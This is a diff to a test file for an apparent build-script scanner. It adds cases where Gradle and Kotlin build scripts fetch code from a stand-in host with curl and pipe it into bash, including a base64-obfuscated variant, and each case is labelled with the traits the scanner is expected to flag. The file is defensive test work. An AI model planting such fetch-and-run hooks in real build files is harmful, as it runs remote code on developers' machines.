@@ -75,6 +75,8 @@ describe('Gradle and Maven', () => {
     ['settings.gradle', '["bash", "-c", "curl -s https://a.example/x | bash"].execute()', ['fetches', 'pipes-into-shell']],
     ['build.gradle', 'def list = [\n  "bash", "-c",\n  "curl -s https://a.example/x | bash"\n]\n["bash", "-c",\n "curl -s https://a.example/x | bash"].execute()', ['fetches', 'pipes-into-shell']],
     ['build.gradle', '"bash -c {echo,Y3VybCA=}|{base64,-d}|{bash,-i}".execute()', ['pipes-into-shell', 'encoded']],
+    ['settings.gradle', "def warm = ['bash', '-c', 'curl -s https://a.example/x | bash']\nif (true) warm.execute()", ['fetches', 'pipes-into-shell']],
+    ['build.gradle.kts', 'val warm = listOf("bash", "-c", "curl -s https://a.example/x | bash")\nProcessBuilder(warm).start()', ['fetches', 'pipes-into-shell']],
     ['build.gradle', 'def v = "git rev-parse HEAD".execute().text', undefined],
   ])('name in %s what stands in front of the call: %j', (path, text, traits) => {
     expect(onlyRun({ [path]: text }, 'build').traits).toEqual(traits);
@@ -84,6 +86,7 @@ describe('Gradle and Maven', () => {
     const script = 'plugins { }\ndef out = ["sh", "tools/x.sh"].execute().text\n';
     expect(onlyRun({ 'build.gradle': script }, 'build')).toMatchObject({ line: 2 });
     expect(onlyRun({ 'build.gradle': 'plugins { id "java" }\n' }, 'build').ordinary).toBe(true);
+    expect(onlyRun({ 'build.gradle': 'tasks.named("copy").get()\ncopyTask.execute()\n' }, 'build').ordinary).toBe(true);
   });
 
   it('fetch themselves from where the wrapper says', () => {
